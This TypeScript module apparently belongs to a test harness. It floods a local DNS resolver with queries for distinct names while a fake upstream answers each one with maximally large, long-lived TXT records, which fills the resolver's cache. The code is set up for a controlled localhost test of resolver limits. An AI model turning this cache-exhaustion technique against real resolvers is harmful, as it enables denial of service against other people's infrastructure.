/**
 * Attacks that fill the cache, each run by `attacker.ts`.
 * @module
 */
import { createSocket, type Socket } from 'node:dgram'
import { once } from 'node:events'
import { setTimeout as sleep } from 'node:timers/promises'
import { query } from './wire.ts'

const ADDRESS = '127.0.0.1'
const HEADER_BYTES = 12
const TTL_SECONDS = 3600
/** Queries under way at most: the attacker's upstream is no faster than the machine. */
const UNDER_WAY_MAX = 100
/** Pause between two bursts of queries. */
const PAUSE_MS = 5
/** Time for a response. */
const PATIENCE_MS = 3000

/** The target, and what fills its cache. */
export type Filling = {
  readonly port: number
  /** Where the target's upstream is to be, which is this process. */
  readonly upstreamPort: number
  /** Different names below `zone`, each queried once. */
  readonly count: number
  readonly zone: string
  readonly perSecond: number
  /** TXT records of each name, and bytes of each of their texts, 255 at most. */
  readonly records: number
  readonly textBytes: number
}

/** Results of the queries. */
export type Filled = { readonly asked: number; readonly answered: number }

/** Queries different names, whose responses are as wide as UDP takes them. */
export async function fillCache(options: Filling): Promise<Filled> {
  const { port, upstreamPort, count, zone, perSecond } = options
  const upstream = await bound(upstreamPort)
  const records = txtRecords(options)
  upstream.on('message', (message, { port: from }) => {
    upstream.send(respond(message, records, options.records), from, ADDRESS)
  })
  const client = await bound(0)
  let answered = 0
  /** When each query was sent that has no response, by its ID. */
  const underWay = new Map<number, number>()
  client.on('message', (response) => {
    const isFirst = underWay.delete(response.readUInt16BE(0))
    if (isFirst && response.readUInt16BE(6) === options.records) answered++
  })
  const startMs = performance.now()
  for (let i = 0; i < count || underWay.size > 0; ) {
    const nowMs = performance.now()
    for (const [id, sentMs] of underWay) if (nowMs - sentMs > PATIENCE_MS) underWay.delete(id)
    const due = Math.min(count, ((nowMs - startMs) / 1000) * perSecond)
    for (; i < due && underWay.size < UNDER_WAY_MAX; i++) {
      const id = i & 0xffff
      underWay.set(id, nowMs)
      client.send(query({ id, name: `n${i}.${zone}`, type: 'TXT', udpBytes: 1232 }), port, ADDRESS)
    }
    await sleep(PAUSE_MS)
  }
  for (const socket of [upstream, client]) socket.close()
  return { asked: count, answered }
}

async function bound(port: number): Promise<Socket> {
  const socket = createSocket({ type: 'udp4', recvBufferSize: 4 * 1024 * 1024 })
  socket.on('error', () => undefined)
  socket.bind(port, ADDRESS)
  await once(socket, 'listening')
  return socket
}

/** Returns TXT records of the name of the question. */
function txtRecords({ records, textBytes }: Filling): Buffer {
  const record = Buffer.alloc(HEADER_BYTES + 1 + textBytes, 'x')
  record.writeUInt16BE(0xc000 | HEADER_BYTES, 0)
  record.writeUInt16BE(16, 2)
  record.writeUInt16BE(1, 4)
  record.writeUInt32BE(TTL_SECONDS, 6)
  record.writeUInt16BE(1 + textBytes, 10)
  record.writeUInt8(textBytes, 12)
  return Buffer.concat(Array.from({ length: records }, () => record))
}

/** Returns a response to a query, without an OPT record. */
function respond(message: Buffer, records: Buffer, count: number): Buffer {
  const questionEnd = message.indexOf(0, HEADER_BYTES) + 5
  const head = Buffer.from(message.subarray(0, questionEnd))
  head.writeUInt16BE(0x8180, 2)
  head.writeUInt16BE(count, 6)
  head.writeUInt32BE(0, 8)
  return Buffer.concat([head, records])
}
